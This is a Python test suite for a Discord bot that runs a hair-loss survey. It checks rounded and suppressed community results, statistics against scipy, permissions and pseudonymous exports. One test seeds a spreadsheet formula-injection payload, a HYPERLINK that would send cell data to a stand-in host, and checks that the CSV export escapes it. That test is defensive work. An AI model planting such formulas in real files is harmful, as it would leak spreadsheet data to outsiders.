"""Community results end to end: seeded answers, the real client, the double, scipy."""

from __future__ import annotations

import csv
import io
import json
import random
import re
from html.parser import HTMLParser
from pathlib import Path

import matplotlib.image
import pytest
from scipy.stats import chi2_contingency, fisher_exact
from scipy.stats.contingency import association, odds_ratio

from bot.app import AnagenBot
from bot.cli import main
from bot.results.charts import read_drawn
from bot.settings import Settings
from bot.survey.flow import Answer
from tests.databases import env_value
from tests.double import DiscordDouble, User
from tests.releases_driver import publish
from tests.survey_driver import rows, seed_response

NOTE = "my private note"


def member_answers(rng: random.Random, index: int, *, receding: bool) -> dict:
    stage = rng.choice(["nw2", "nw3", "nw3v"] if receding else ["nw5", "nw6", "nw4"])
    itch = rng.random() < (0.7 if receding else 0.3)
    return {
        ("age", ""): Answer(number=rng.randint(18, 60)),
        ("sex", ""): Answer(choices=("male",)),
        ("norwood", ""): Answer(choices=(stage,)),
        ("areas", ""): Answer(choices=("hairline",) if receding else ("diffuse",)),
        ("sensations", ""): Answer(choices=("itch",) if itch else ("none",)),
        ("shedding", ""): Answer(choices=(rng.choice(["normal", "more", "heavy"]),)),
        ("dandruff", ""): Answer(choices=(rng.choice(["none", "light", "oily_film"]),)),
        ("oiliness", ""): Answer(choices=(rng.choice(["much_oilier", "no_change"]),)),
        ("notes", ""): Answer(text=f"{NOTE} {index}"),
    }


async def seed(bot: AnagenBot, guild_id: int, receding: int, diffuse: int) -> None:
    rng = random.Random(7)
    for index in range(receding + diffuse):
        await seed_response(
            bot.db, guild_id, 50_000 + index, member_answers(rng, index, receding=index < receding)
        )


def count(settings: Settings, sql: str) -> int:
    return rows(settings.database, sql)[0][0]


async def test_results_chart_and_summary_match_the_database(
    double: DiscordDouble, bot: AnagenBot, member: User, settings: Settings
) -> None:
    await seed(bot, double.guild.id, 14, 10)
    await seed_response(
        bot.db,
        double.guild.id,
        1,
        member_answers(random.Random(1), 0, receding=True),
        completed=False,
    )  # in progress: not counted

    before = await double.slash(member, "survey results")
    assert "No results have been published in this server yet" in before.message.text
    assert before.message.ephemeral

    await publish(bot.services.results.releases, double.guild.id)
    message = (await double.slash(member, "survey results")).message

    png = message.attachments[0]
    assert png.filename == "survey-results.png"
    image = matplotlib.image.imread(io.BytesIO(png.data), format="png")
    assert image.shape[0] > 200
    assert "**24 members, as of" in message.text
    itch = count(
        settings,
        "SELECT count(*) FROM answer_choices c JOIN responses r ON"
        " r.id = c.response_id WHERE r.status = 'completed' AND"
        " c.question_id = 'sensations' AND c.choice_id = 'itch'",
    )
    drawn = read_drawn(png.data)
    sensations = next(p for p in drawn["panels"] if "felt" in p["title"])
    shown = next(b["text"] for b in sensations["bars"] if b["label"] == "Itch")
    # rounded to a neighbouring multiple of 5, never further
    assert int(shown) % 5 == 0
    assert abs(int(shown) - itch) <= 4
    assert NOTE not in message.text


async def test_two_by_two_comparison_matches_scipy(
    double: DiscordDouble, bot: AnagenBot, member: User, settings: Settings
) -> None:
    rng = random.Random(5)
    felt = ["itch", "burning", "pain", "tightness", "numbness", "prickling"]
    areas = ["hairline", "mid", "crown", "top", "diffuse"]
    for index in range(240):
        answers = member_answers(rng, index, receding=True)
        sensations = [s for s in felt if rng.random() < 0.5] if rng.random() > 0.25 else []
        where = [a for a in areas if rng.random() < 0.5] if rng.random() > 0.2 else []
        answers[("sensations", "")] = Answer(choices=tuple(sensations) or ("none",))
        answers[("areas", "")] = Answer(choices=tuple(where) or ("none",))
        await seed_response(bot.db, double.guild.id, 40_000 + index, answers)
    await publish(bot.services.results.releases, double.guild.id)
    reply = await double.slash(
        member, "survey compare", question="sensations:any", by="loss_pattern"
    )
    text = (await reply.wait_followup(timeout=60)).text

    has = (
        "EXISTS (SELECT 1 FROM answer_choices c WHERE c.response_id = r.id"
        " AND c.question_id = '{}' AND c.choice_id = '{}')"
    )
    groups = (
        f"{has.format('areas', 'hairline')} AND NOT {has.format('areas', 'diffuse')}",
        has.format("areas", "diffuse"),
    )
    true = [
        [
            count(
                settings,
                f"SELECT count(*) FROM responses r WHERE r.status = 'completed' AND {group}"
                f" AND {'NOT ' if any_sensation else ''}{has.format('sensations', 'none')}",
            )
            for any_sensation in (True, False)  # the columns: yes, then no
        ]
        for group in groups
    ]
    (comparison,) = await bot.services.results.compare(
        double.guild.id, "sensations:any", "loss_pattern", chart=False
    )
    table = [group.cells for group in comparison.groups]
    for published_row, true_row in zip(table, true, strict=True):
        for published, counted in zip(published_row, true_row, strict=True):
            assert published % 5 == 0
            assert abs(published - counted) <= 4
    # the statistic is the rounded table's: what a reader can check
    expected = odds_ratio(table, kind="sample")
    interval = expected.confidence_interval(0.95)
    _, p = fisher_exact(table)
    assert f"Odds ratio {expected.statistic:.2f}" in text
    assert f"95% CI {interval.low:.2f}–{interval.high:.2f}" in text
    assert (f"p = {p:.3f}" if p >= 0.001 else "p < 0.001") in text
    assert "not proof" in text
    assert "Computed on the rounded counts" in text


async def test_larger_table_gets_chi_squared_and_cramers_v(
    double: DiscordDouble, bot: AnagenBot, member: User, settings: Settings
) -> None:
    rng = random.Random(11)
    for index in range(400):  # every cell well above k, so the statistic may be shown
        answers = member_answers(rng, index, receding=index < 200)
        shedding = rng.choice(["none", "normal", "more", "heavy"])
        answers[("shedding", "")] = Answer(choices=(shedding,))
        await seed_response(bot.db, double.guild.id, 60_000 + index, answers)
    await publish(bot.services.results.releases, double.guild.id)
    reply = await double.slash(member, "survey compare", question="shedding", by="age")
    text = (await reply.wait_followup(timeout=60)).text

    (comparison,) = await bot.services.results.compare(
        double.guild.id, "shedding", "age", chart=False
    )
    table = [group.cells for group in comparison.groups]
    assert [len(row) for row in table] == [4, 4, 4, 4]
    chi2, _, dof, _ = chi2_contingency(table, correction=False)
    assert f"χ² = {chi2:.2f} (df {dof})" in text
    assert f"Cramér's V = {association(table, method='cramer', correction=False):.2f}" in text


async def test_small_groups_are_named_and_tiny_comparisons_refused(
    double: DiscordDouble, bot: AnagenBot, member: User
) -> None:
    await seed(bot, double.guild.id, 30, 3)  # only 3 diffuse thinners
    await publish(bot.services.results.releases, double.guild.id)
    refused = await double.slash(
        member, "survey compare", question="sensations:any", by="loss_pattern"
    )
    message = await refused.wait_followup(timeout=60)
    # the reason names the group that holds the table back, and gives no count away
    assert "“Diffuse thinning”" in message.text
    assert "fewer than 5 members" in message.text

    reply = await double.slash(member, "survey compare", question="dandruff", by="stage_group")
    shown = await reply.wait_followup(timeout=60)
    assert "<5" in shown.text
    for number in re.findall(r"\b(\d+) \(\d+%\)", shown.text):
        assert int(number) >= 5
        assert int(number) % 5 == 0


async def test_ready_made_comparisons_are_offered(
    double: DiscordDouble, bot: AnagenBot, member: User
) -> None:
    choices = await double.autocomplete(member, "survey compare", "question", question="")
    assert choices[0]["name"].startswith("★ Do receders")
    assert len(choices) <= 25
    await seed(bot, double.guild.id, 10, 10)
    await publish(bot.services.results.releases, double.guild.id)
    reply = await double.slash(member, "survey compare", question=choices[0]["value"])
    assert "by receding or diffuse" in (await reply.wait_followup(timeout=60)).text


async def test_admin_commands_need_manage_server(
    double: DiscordDouble, bot: AnagenBot, member: User
) -> None:
    admin = double.find_command("survey-admin")
    assert int(admin["default_member_permissions"]) == 1 << 5
    for sub, options in (("export", {"format": "csv"}), ("settings", {"survey_open": False})):
        reply = await double.slash(member, f"survey-admin {sub}", **options)
        assert "Manage Server" in reply.message.text
    moderator = double.add_member("mod", admin=True)
    assert "open" in (await double.slash(moderator, "survey-admin settings")).message.text


async def test_settings_close_the_survey_and_restrict_results(
    double: DiscordDouble, bot: AnagenBot, member: User
) -> None:
    moderator = double.add_member("mod", admin=True)
    saved = await double.slash(
        moderator,
        "survey-admin settings",
        survey_open=False,
        visibility="managers",
        min_group_size=4,
    )
    assert "closed to new starts" in saved.message.text
    assert "Minimum group size (k):** 4" in saved.message.text
    closed = await double.slash(member, "survey start")
    assert "closed to new responses" in closed.message.text
    hidden = await double.slash(member, "survey results")
    assert "Manage Server only" in hidden.message.text
    bad = await double.slash(moderator, "survey-admin settings", min_group_size=2)
    assert bad.message.ephemeral  # Discord's own range check would stop 2; the bot also does


async def test_exports_are_pseudonymous_stable_and_described(
    double: DiscordDouble, bot: AnagenBot, settings: Settings
) -> None:
    moderator = double.add_member("mod", admin=True)
    await seed(bot, double.guild.id, 6, 6)
    await seed(bot, double.guild.id + 1, 6, 6)  # another server, the same members

    async def export(fmt: str) -> dict[str, bytes]:
        reply = await double.slash(moderator, "survey-admin export", format=fmt)
        message = await reply.wait_followup(timeout=60)
        assert message.ephemeral
        return {a.filename: a.data for a in message.attachments}

    first, second = await export("csv"), await export("csv")
    assert len(first) == 3  # the survey, the codebook, the check-ins (none here)
    version = bot.services.results.questionnaire.version
    data_name = f"anagen-survey-{double.guild.id}-v{version}.csv"
    ids_first = [r["respondent"] for r in csv.DictReader(io.StringIO(first[data_name].decode()))]
    ids_second = [r["respondent"] for r in csv.DictReader(io.StringIO(second[data_name].decode()))]
    assert ids_first == ids_second
    assert len(set(ids_first)) == 12
    assert set(ids_first).isdisjoint(str(50_000 + i) for i in range(12))
    assert ids_first == sorted(ids_first)  # by pseudonym, not in the order members finished
    for row in csv.DictReader(io.StringIO(first[data_name].decode())):  # to the day only
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["started_at"])
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["completed_at"])
    codebook_name = next(n for n in first if n.endswith("codebook.csv"))
    book = list(csv.DictReader(io.StringIO(first[codebook_name].decode())))
    described = {r["column"] for r in book if r["file"] == "survey"}
    header = next(csv.reader(io.StringIO(first[data_name].decode())))
    assert described == set(header)
    assert NOTE in first[data_name].decode()  # free text only in admin exports

    other = await bot.get_cog("Survey").results.export(double.guild.id + 1, "json")  # type: ignore[union-attr]
    other_ids = {r["respondent"] for r in json.loads(other[0].content)["rows"]}
    assert other_ids.isdisjoint(ids_first)
    assert {c["column"] for c in json.loads(other[1].content)["columns"]} == {
        r["column"] for r in book
    }


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.images: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "img":
            self.images.append(dict(attrs).get("src") or "")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


async def test_html_report_has_charts_no_small_counts_and_no_free_text(
    double: DiscordDouble,
    bot: AnagenBot,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    await seed(bot, double.guild.id, 20, 8)
    await publish(bot.services.results.releases, double.guild.id)
    monkeypatch.setenv("ANAGEN_DATABASE", env_value(settings.database))
    monkeypatch.chdir(tmp_path)
    output = tmp_path / "report.html"

    assert await _run_cli(["report", "--guild", str(double.guild.id), "-o", str(output)]) == 0

    html = output.read_text()
    assert "<table>" in html
    page = _Page()
    page.feed(html)
    assert len(page.images) >= 2
    assert all(src.startswith("data:image/png;base64,") for src in page.images)
    text = " ".join(page.text)
    assert NOTE not in text
    assert "28 members" in text
    assert "rounded to a multiple of 5" in text
    for cell in re.findall(r"(?<![<\w.])(\d+) \(\d+%\)", text):
        assert int(cell) % 5 == 0
    # two reports of one release are the same page: no date of writing to compare
    again = tmp_path / "again.html"
    assert await _run_cli(["report", "--guild", str(double.guild.id), "-o", str(again)]) == 0
    assert again.read_text() == html


async def _run_cli(argv: list[str]) -> int:
    import asyncio

    return await asyncio.to_thread(main, argv)


async def test_import_replies_from_the_seed_thread(
    double: DiscordDouble,
    bot: AnagenBot,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # Two replies in the thread's format (Age / Balding / Pain / Itch / Shedding / Dandruff):
    # the second one describes its shedding and dandruff in the past tense.
    replies = tmp_path / "replies.txt"
    replies.write_text((Path(__file__).parents[1] / "fixtures" / "thread_replies.txt").read_text())
    monkeypatch.setenv("ANAGEN_DATABASE", env_value(settings.database))
    monkeypatch.chdir(tmp_path)

    command = ["import-replies", str(replies), "--guild", str(double.guild.id), "--new-server"]
    assert await _run_cli(command) == 0  # a server nobody has used the bot in yet

    out = capsys.readouterr().out
    assert "not mapped  Shedding: 'A few years ago" in out
    assert "not mapped  Dandruff: 'Before the shedding" in out
    stored: dict[tuple[int, str], tuple[int | None, list[str]]] = {}
    for uid, question, number, choice in rows(
        settings.database,
        "SELECT r.user_id, a.question_id, a.number, c.choice_id"
        " FROM responses r JOIN answers a ON a.response_id = r.id"
        " LEFT JOIN answer_choices c ON c.response_id = a.response_id"
        " AND c.question_id = a.question_id WHERE r.imported = 1",
    ):
        stored.setdefault((uid, question), (number, []))[1].extend([choice] if choice else [])
    first = {q: (n, ",".join(c) or None) for (uid, q), (n, c) in stored.items() if uid == -1}
    second = {q: (n, ",".join(c) or None) for (uid, q), (n, c) in stored.items() if uid == -2}
    assert first["age"] == (18, None)
    assert first["norwood"][1] == "nw2"
    assert set(first["sensations"][1].split(",")) == {"itch", "burning"}
    assert first["shedding"][1] == "normal"
    assert first["dandruff"][1] == "light"
    assert second["age"] == (19, None)
    assert second["norwood"][1] == "nw2"
    assert set(second["sensations"][1].split(",")) == {"itch", "burning"}
    assert "shedding" not in second
    assert "dandruff" not in second
    originals = rows(settings.database, "SELECT original FROM imported_replies")
    assert "terrible itching" in originals[0][0]
    # imported replies stay out of results until the server includes them
    assert count(settings, "SELECT count(*) FROM responses WHERE imported = 0") == 0


async def test_exports_are_spreadsheet_safe_and_survive_dropped_choices(
    double: DiscordDouble, bot: AnagenBot
) -> None:
    answers = {
        ("notes", ""): Answer(text='=HYPERLINK("http://x/?"&A2,"see")'),
        ("effects.shedding", "retired_choice"): Answer(choices=("better",)),
    }
    await seed_response(bot.db, double.guild.id, 77, answers)
    files = await bot.get_cog("Survey").results.export(double.guild.id, "csv")  # type: ignore[union-attr]
    row = next(csv.DictReader(io.StringIO(files[0].content.decode())))
    assert row["notes"].startswith("'=HYPERLINK")
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["completed_at"])  # a date, no time


async def test_consent_after_the_survey_closed_creates_nothing(
    double: DiscordDouble, bot: AnagenBot, member: User, settings: Settings
) -> None:
    await double.slash(member, "survey start")
    consent = await double.wait_for_dm(member, 1)
    moderator = double.add_member("mod", admin=True)
    await double.slash(moderator, "survey-admin settings", survey_open=False)
    clicked = await double.click(member, consent, "Start the survey")
    assert "closed to new responses" in clicked.message.text
    assert count(settings, "SELECT count(*) FROM responses") == 0


async def test_treatment_reports_follow_results_visibility(
    double: DiscordDouble, bot: AnagenBot, member: User
) -> None:
    from tests.survey_driver import treatment_answers

    for index in range(12):
        await seed_response(
            bot.db,
            double.guild.id,
            9000 + index,
            treatment_answers("finasteride", "better", "better"),
        )
    await publish(bot.services.results.releases, double.guild.id)
    moderator = double.add_member("mod", admin=True)
    await double.slash(moderator, "survey-admin settings", visibility="managers")
    shown = await (await double.slash(member, "treatment lookup", name="fin")).wait_followup()
    names = [f["name"] for f in shown.embeds[0]["fields"]]
    assert "Community reports" not in names
    own = await (await double.slash(moderator, "treatment lookup", name="fin")).wait_followup()
    assert own.ephemeral  # results kept for moderators are not posted to the channel
    assert not shown.ephemeral
    fields = {f["name"]: f["value"] for f in own.embeds[0]["fields"]}
    # 12 members, rounded to a neighbouring multiple of 5 by the server's secret keys
    assert re.search(r"About \*\*(10|15)\*\* members here reported", fields["Community reports"])
    private = await double.slash(moderator, "survey results")
    assert private.message.ephemeral


async def test_statistics_need_every_count(
    double: DiscordDouble, bot: AnagenBot, member: User
) -> None:
    await seed(bot, double.guild.id, 30, 3)
    await publish(bot.services.results.releases, double.guild.id)
    reply = await double.slash(member, "survey compare", question="dandruff", by="stage_group")
    text = (await reply.wait_followup(timeout=60)).text
    assert "<5" in text
    assert "No statistic: some cells have fewer than 5 members" in text
    assert "Odds ratio" not in text
    assert "χ²" not in text


async def test_overview_holds_back_a_question_few_answered(
    double: DiscordDouble, bot: AnagenBot, member: User
) -> None:
    rng = random.Random(3)
    for index in range(19):
        await seed_response(
            bot.db, double.guild.id, 70_000 + index, member_answers(rng, index, receding=True)
        )
    woman = member_answers(rng, 99, receding=True)
    del woman[("norwood", "")]
    woman[("sex", "")] = Answer(choices=("female",))
    woman[("ludwig", "")] = Answer(choices=("ludwig2",))
    await seed_response(bot.db, double.guild.id, 70_099, woman)
    await publish(bot.services.results.releases, double.guild.id)

    message = (await double.slash(member, "survey results")).message
    overview = await bot.services.results.overview(double.guild.id, chart=False)
    panels = {p.question_id: p for p in overview.panels}
    assert "ludwig" not in panels  # one woman answered it
    assert "Not shown yet, answered by fewer than 5 members" in message.text
    assert "Ludwig" in message.text
    assert panels["norwood"].n in (15, 20)  # 19, rounded
    drawn = read_drawn(message.attachments[0].data)
    assert all("Ludwig" not in panel["title"] for panel in drawn["panels"])  # no empty plot


async def test_survey_results_shows_each_question_one_at_a_time(
    double: DiscordDouble, bot: AnagenBot, member: User, settings: Settings
) -> None:
    from tests.survey_driver import treatment_answers

    rng = random.Random(17)
    for index in range(31):
        answers = member_answers(rng, index, receding=index < 18)
        speed = "slow" if index < 19 else "aggressive" if index < 28 else "not_sure"
        answers[("speed", "")] = Answer(choices=(speed,))
        treatment = "finasteride" if index < 22 else "ketoconazole"
        answers |= treatment_answers(treatment, "better" if index % 3 else "no_change", "better")
        await seed_response(bot.db, double.guild.id, 30_000 + index, answers)
    await publish(bot.services.results.releases, double.guild.id)
    releases = bot.services.results.releases

    overview = (await double.slash(member, "survey results")).message
    assert overview.attachments[0].filename == "survey-results.png"
    menu = (await double.click(member, overview, "One question at a time")).message
    assert menu.ephemeral
    select = menu.component("sv:r:pick")
    offered = {option["value"]: option["label"] for option in select["options"]}
    assert len(offered) <= 25
    assert {"q:norwood", "q:speed", "q:age", "q:treatments", "did:shedding"} <= set(offered)
    assert offered["q:speed"] == "How fast are you losing hair?"

    # Speed is not in the overview: its counts are the release's, as /survey compare shows
    # them for the speed groups, and no raw count is ever shown.
    picked = await double.select(member, menu, "sv:r:pick", ["q:speed"])
    shown = await picked.wait_original(lambda m: m.embeds and m.attachments)
    assert shown.id == menu.id  # one private message, replaced in place
    embed = shown.embeds[0]
    assert embed["title"] == "How fast are you losing hair?"
    slow = re.search(r"Slowly: (\d+) \((\d+)%\)", embed["description"])
    assert slow is not None
    assert int(slow[1]) % 5 == 0  # rounded, never the raw 19
    assert abs(int(slow[1]) - 19) <= 4
    assert int(slow[2]) == round(100 * int(slow[1]) / 31)  # of all 31 members counted
    assert "“Not sure” is not counted separately" in embed["description"]
    (by_speed,) = await bot.services.results.compare(
        double.guild.id, "sensations:any", "speed", chart=False
    )
    assert {g.label: g.total for g in by_speed.groups}["Slowly"] == int(slow[1])
    drawn = read_drawn(shown.attachments[0].data)
    assert drawn["panels"][0]["bars"][0]["text"] == slow[1]
    [option] = [o for o in shown.component("sv:r:pick")["options"] if o.get("default")]
    assert option["value"] == "q:speed"

    # What each treatment did: the /treatment lookup numbers, per treatment.
    picked = await double.select(member, shown, "sv:r:pick", ["did:shedding"])
    shown = await picked.wait_original(lambda m: "What each" in m.embeds[0].get("title", ""))
    text = shown.embeds[0]["description"]
    found = await releases.part(double.guild.id, "treatment:finasteride")
    assert found is not None
    _, part = found
    better = part["effects"]["shedding"]["better"]
    assert f"Finasteride (about {part['tried']} tried it): better {better} (" in text
    assert "Not shown, fewer than 5 members reported trying each:" in text
    assert "Ketoconazole shampoo (about" in text  # 9 tried it
    lookup = await (
        await double.slash(member, "treatment lookup", name="finasteride")
    ).wait_followup()
    reports = {f["name"]: f["value"] for f in lookup.embeds[0]["fields"]}["Community reports"]
    assert f"About **{part['tried']}** members here reported trying it" in reports

    # Treatments tried: the same counts again.
    picked = await double.select(member, shown, "sv:r:pick", ["q:treatments"])
    shown = await picked.wait_original(lambda m: "treatments" in m.embeds[0].get("title", ""))
    assert f"Finasteride: {part['tried']} (" in shown.embeds[0]["description"]
    assert "Members could choose several answers" in shown.embeds[0]["description"]

    # An overview question opens large, with its panel's numbers.
    picked = await double.select(member, shown, "sv:r:pick", ["q:norwood"])
    shown = await picked.wait_original(lambda m: "Norwood" in m.embeds[0].get("title", ""))
    found = await releases.part(double.guild.id, "overview")
    assert found is not None
    _, published = found
    [panel] = [p for p in published["panels"] if p["question"] == "norwood"]
    for _, label, value in panel["bars"]:
        expected = f"{label}: <5" if value is None else f"{label}: {value} ("
        assert expected in shown.embeds[0]["description"]
    assert overview.embeds[0]["title"] == "Scalp survey: community results"  # untouched


async def test_the_question_menu_checks_who_may_read_results(
    double: DiscordDouble, bot: AnagenBot, member: User
) -> None:
    await seed(bot, double.guild.id, 12, 10)
    await publish(bot.services.results.releases, double.guild.id)
    overview = (await double.slash(member, "survey results")).message
    menu = (await double.click(member, overview, "One question at a time")).message
    moderator = double.add_member("mod", admin=True)
    await double.slash(moderator, "survey-admin settings", visibility="managers")
    refused = await double.click(member, overview, "One question at a time")
    assert "Manage Server only" in refused.message.text
    assert refused.message.ephemeral
    # a menu opened before the change is checked again on every pick
    picked = await double.select(member, menu, "sv:r:pick", ["q:norwood"])
    reply = picked.original if picked.callback_type == 4 else await picked.wait_followup()
    assert "Manage Server only" in reply.text
    assert not menu.embeds  # nothing was shown
